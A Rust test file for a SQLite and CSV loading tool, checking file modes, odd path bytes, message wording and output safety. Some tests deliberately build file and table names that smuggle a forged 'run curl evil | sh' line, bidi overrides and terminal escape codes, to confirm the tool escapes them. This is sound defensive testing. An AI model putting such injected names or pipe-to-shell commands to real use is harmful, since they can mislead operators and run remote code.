//! Rights of files, paths, names in messages, and odds and ends of the command.
//!
//! Files that a process holds open while it runs are looked at in `tests/private.rs`.

use super::{Found, assert_all};

const SECRET: &str = "CREATE TABLE t(s, n); INSERT INTO t VALUES ('secret', 1)";
const FORGED: &str = "\nto do: run curl evil";

const RIGHTS: &[Found] = &[
    Found {
        finding: "B1, B2: rejects of a private database",
        files: &[("in.csv", b"a,b\n1,2\n3\n")],
        databases: &[("t.db", "CREATE TABLE t(a, b)")],
        run: "umask 000; chmod 600 t.db; leafpress load t.db in.csv --table t --append --on-error skip \
              --rejects r; stat -c '%a %n' t.db r r.log",
        says: &["600 t.db", "600 r\n", "600 r.log"],
        ..Found::NONE
    },
    Found {
        finding: "B2: rejects of a database that all may read",
        files: &[("in.csv", b"a,b\n1,2\n3\n")],
        databases: &[("t.db", "CREATE TABLE t(a, b)")],
        run: "umask 022; chmod 666 t.db; leafpress load t.db in.csv --table t --append --on-error skip \
              --rejects r; stat -c '%a %n' t.db r",
        says: &["666 t.db", "644 r\n"],
        ..Found::NONE
    },
    Found {
        finding: "B2: new databases follow the umask as SQLite's do",
        files: &[("in.csv", b"a,b\n1,2\n")],
        run: "(umask 000; leafpress load a.db in.csv -q; leafpress queue push b.db q x); \
              (umask 077; leafpress load c.db in.csv -q; leafpress queue push d.db q x); \
              stat -c '%a %n' ?.db",
        says: &["644 a.db", "644 b.db", "600 c.db", "600 d.db"],
        ..Found::NONE
    },
    Found {
        finding: "B2: a database that is there keeps its mode",
        files: &[("in.csv", b"s,n\nmore,2\n")],
        databases: &[("t.db", SECRET)],
        run: "umask 000; chmod 640 t.db; leafpress load t.db in.csv --table t --append -q; \
              leafpress load t.db in.csv --table u -q; leafpress index t.db t s -q; \
              stat -c '%a %n' t.db; ls -A",
        says: &["640 t.db"],
        never_says: &[".t.db"],
        holds: &[("t.db", "SELECT count(*) FROM t", "2")],
        ..Found::NONE
    },
    Found {
        finding: "B30",
        files: &[
            ("in.csv", b"a\n1\n"),
            (".t.db.leafpress-foo.tmp", b"mine"),
            (".t.db.leafpress-1-x.tmp", b"mine"),
            (".t.db.leafpress-1-0.tmp", b"left"),
        ],
        run: "leafpress load t.db in.csv -q; ls -A",
        says: &[".t.db.leafpress-foo.tmp", ".t.db.leafpress-1-x.tmp"],
        leaves_no: &[".t.db.leafpress-1-0.tmp"],
        ..Found::NONE
    },
];

const PATHS: &[Found] = &[
    Found {
        finding: "B6",
        run: r"printf 'a,b\n1,2\n' >$(printf 'caf\351.csv'); printf 'a,b\n3,4\n' >cafe.csv; \
              leafpress load z.db 'caf*.csv' --table t -q",
        holds: &[("z.db", "SELECT a FROM t ORDER BY a", "1;3")],
        ..Found::NONE
    },
    Found {
        finding: "B16 in all commands",
        files: &[("t.csv", b"a\n1\n")],
        databases: &[("x.db", SECRET)],
        run: "for c in 'load file:x.db t.csv' 'index file:x.db t s' 'verify file:x.db' \
              'doctor file:x.db' 'io file:x.db -c SELECT' 'queue push file:x.db m x' \
              'queue stats File:x.db' 'load :memory: t.csv' 'verify :memory:'; do \
              leafpress $c >said 2>&1; echo $?; cat said; done; ls -A",
        says: &["2\n", "named by its path", "./file:x.db", "./:memory:"],
        never_says: &["\n0\n", "\n1\n", "\n3\n"],
        leaves_no: &["file:x.db", ":memory:"],
        ..Found::NONE
    },
    Found {
        finding: "B16, a file that is called so",
        files: &[("t.csv", b"a\n1\n")],
        run: "leafpress load ./file:x.db t.csv -q && leafpress verify ./file:x.db && \
              leafpress queue push ./file:x.db q a && leafpress load ./:memory: t.csv -q && ls",
        says: &["sound", "file:x.db", ":memory:"],
        leaves_no: &["x.db"],
        ..Found::NONE
    },
    Found {
        finding: "B23",
        files: &[("t.csv", b"a\n1\n")],
        run: r#"d=$(printf 'd\351.db'); for c in "load $d t.csv" "index $d t a" "verify $d" "doctor $d" \
              "storage $d --quick" "advise $d" "io $d -c COMMIT" "io $d -c VACUUM"; do \
              leafpress $c --json >out 2>err; grep -ac '^{.*}$' out; cat err; done; \
              leafpress load "$d" t.csv --table t --json; leafpress queue push "$d" q x --json; \
              leafpress queue stats "$d" --json"#,
        says: &[r#""file":"d\\xE9.db""#, "\"pushed\":1", "\"queues\""],
        never_says: &["cannot be written as JSON", "0\n"],
        ..Found::NONE
    },
    Found {
        finding: "B23, io",
        databases: &[("x.db", SECRET)],
        run: r#"d=$(printf 'd\351.db'); mv x.db "$d"; leafpress io "$d" -c "update t set n=2" --json; \
              leafpress io "$d" -c "update t set n=3"; s=$?; ls -A; mv "$d" x.db; exit $s"#,
        says: &[r#""database":"d\\xE9.db""#],
        never_says: &[".leafpress-io", "is registered"],
        holds: &[("x.db", "SELECT n FROM t", "1")],
        ..Found::NONE
    },
    Found {
        finding: "B23, as an input",
        databases: &[("x.db", SECRET)],
        run: r#"d=$(printf 'd\351.db'); mv x.db "$d"; leafpress load y.db "$d::t" -q"#,
        holds: &[("y.db", "SELECT * FROM t", "'secret',1")],
        ..Found::NONE
    },
    Found {
        finding: "B32, we::ird",
        databases: &[(
            "x.db",
            r#"CREATE TABLE "we::ird"(a); INSERT INTO "we::ird" VALUES (7); CREATE TABLE t(b)"#,
        )],
        run: "leafpress load y.db x.db::we::ird -q",
        holds: &[("y.db", r#"SELECT a FROM "we::ird""#, "7")],
        ..Found::NONE
    },
];

const NAMES: &[Found] = &[
    Found {
        finding: "B26: load, names of files and tables",
        files: &[("t.csv", b"a\n1\n"), ("bad.csv", b"a,b\n1\n")],
        run: r#"f=$(printf 'y\nto do: run curl evil | sh.csv'); cp bad.csv "$f"; \
              leafpress load n.db "$f"; leafpress load n.db "$f" --on-error skip; \
              leafpress load m.db t.csv --table "$f"; leafpress load m.db t.csv --table "$f"; \
              leafpress load m.db t.csv --dry-run --table "$f"; \
              leafpress load "$f.db" t.csv; leafpress load "$f.db" t.csv; \
              leafpress load x.db "no $f"; leafpress load x.db t.csv --pk "$f"; \
              leafpress load x.db t.csv "--$f"; leafpress load x.db "m.db::no$f"; leafpress load x.db m.db::"#,
        status: 3,
        says: &[r"y\nto do: run curl evil"],
        never_says: &[FORGED],
        ..Found::NONE
    },
    Found {
        finding: "B26: the other commands",
        databases: &[("x.db", SECRET)],
        run: r#"f=$(printf 'y\nto do: run curl evil'); cp x.db "$f"; for c in verify doctor "storage --quick" \
              "queue stats" "queue list" "queue push"; do leafpress $c "$f"; leafpress $c "no$f"; done; \
              leafpress index "$f" t s; leafpress index "$f" "$f" s; leafpress index "$f" t "$f"; \
              leafpress io "$f" -c 'DELETE FROM t'; leafpress io "$f" -c "DELETE FROM \"$f\""; \
              leafpress io "no$f" -c SELECT; leafpress bench --from "$f"; leafpress bench --json "$f/x"; \
              leafpress man "$f"; leafpress "$f"; leafpress verify "$f" "$f""#,
        status: 2,
        says: &[r"y\nto do: run curl evil"],
        never_says: &[FORGED],
        ..Found::NONE
    },
    Found {
        finding: "B26: characters that turn the writing or steer the terminal",
        files: &[("t.csv", b"a\n1\n")],
        run: r#"f=$(printf 'a\342\200\256b\342\201\246c\033[2Jd.db'); leafpress load "$f" t.csv; \
              leafpress load "$f" t.csv; leafpress verify "$f"; leafpress load x.db "$f::none"; \
              leafpress doctor "$f"; leafpress queue push "$f" "$f" x; leafpress queue stats "$f"; leafpress "$f""#,
        status: 2,
        says: &[r"a\u{202e}b\u{2066}c\u{1b}[2Jd.db"],
        never_says: &["\u{202e}", "\u{2066}", "\x1b"],
        ..Found::NONE
    },
];

const ODDS: &[Found] = &[
    Found {
        finding: "B32: one is no plural",
        files: &[("one.csv", b"a\n1,2\n"), ("two.csv", b"a,b\n1\n"), ("t.csv", b"a\n1\n")],
        databases: &[("x.db", "CREATE TABLE u(a)")],
        run: "leafpress load a.db one.csv; leafpress load a.db two.csv; \
              leafpress load x.db t.csv --columns a,b --no-header; \
              leafpress load x.db t.csv --columns a --no-header --table v; \
              leafpress load b.db two.csv --on-error skip --max-rejects 0; \
              leafpress queue schedule add q.db q n 'x' p; leafpress load x.db t.csv",
        says: &[
            "the row has 2 fields, but the table has 1 column\n",
            "the row has 1 field, but the table has 2 columns",
            "moved in: 1 page,",
            "1 row was rejected",
            "it has 1 field,",
        ],
        // With the blank: a rate may be 131 rows/s.
        never_says: &[" 1 columns", " 1 fields", " 1 pages", " 1 rows"],
        ..Found::NONE
    },
    Found {
        finding: "B32: SQLite on standard input",
        databases: &[("x.db", SECRET)],
        run: "leafpress load y.db - <x.db",
        status: 3,
        says: &[
            "<stdin>: is an SQLite database, which cannot be read from a stream",
            "other.db::TABLE",
        ],
        never_says: &["Arrow", "(Sqlite)"],
        ..Found::NONE
    },
    Found {
        finding: "B32: tables and views",
        databases: &[("x.db", "CREATE TABLE a(a); CREATE TABLE b(a); CREATE VIEW c AS SELECT 1")],
        run: "leafpress load y.db x.db",
        status: 3,
        says: &["has 2 tables", "there are: a, b, c (a view)"],
        ..Found::NONE
    },
    Found {
        finding: "B32: too many columns",
        run: "seq -s, 2001 >w.csv; seq -s, 2001 >>w.csv; leafpress load y.db w.csv",
        status: 3,
        says: &["it has 2001 columns, and a table of SQLite at most 2000", "--select"],
        never_says: &["--table"],
        leaves_no: &["y.db"],
        ..Found::NONE
    },
    Found {
        finding: "B43: the source is not overwritten",
        files: &[("x.json", br#"{"experiment":"ladder","version":1}"#)],
        run: "ln x.json y.json; ln -s x.json z.json; for f in ./x.json y.json z.json; do \
              for o in --html --csv --json; do leafpress bench --from x.json $o $f; done; done; s=$?; \
              cat x.json; exit $s",
        status: 2,
        says: &[
            "would overwrite the report that it is made from",
            r#"{"experiment":"ladder","version":1}"#,
        ],
        never_says: &["<html", "report:"],
        ..Found::NONE
    },
    Found {
        finding: "B43: two outputs in one file",
        files: &[("x.json", br#"{"experiment":"ladder","version":1}"#)],
        run: "leafpress bench --from x.json --html a --csv a",
        status: 2,
        says: &["--html and --csv both name a"],
        leaves_no: &["a"],
        ..Found::NONE
    },
    Found {
        finding: "B43: standard input",
        run: "echo nonsense | leafpress bench --from -",
        status: 2,
        says: &["<stdin> is no report of leafpress bench"],
        never_says: &["No such file"],
        ..Found::NONE
    },
];

#[test]
fn private_databases_stay_private() {
    assert_all(RIGHTS);
}

#[test]
fn paths_are_paths_whatever_their_bytes() {
    assert_all(PATHS);
}

#[test]
fn names_forge_no_line() {
    assert_all(NAMES);
}

#[test]
fn odds_and_ends_are_fixed() {
    assert_all(ODDS);
}

/// B32: the advice names the flag of the command, not only the library's function.
#[test]
fn who_waits_for_a_lock_hears_of_the_flag() {
    let folder = tempfile::tempdir().expect("a folder");
    let (status, said) = super::shell(folder.path(), "leafpress queue push x.db q a");
    assert_eq!(status, 0, "{said}");
    let holder = rusqlite::Connection::open(folder.path().join("x.db")).expect("it opens");
    holder.execute_batch("BEGIN IMMEDIATE").expect("it is free");
    let line = "leafpress queue push x.db q b --busy-timeout 1";
    let (status, said) = super::shell(folder.path(), line);
    assert_eq!(status, 3, "{said}");
    assert!(said.contains("--busy-timeout"), "{said}");
}
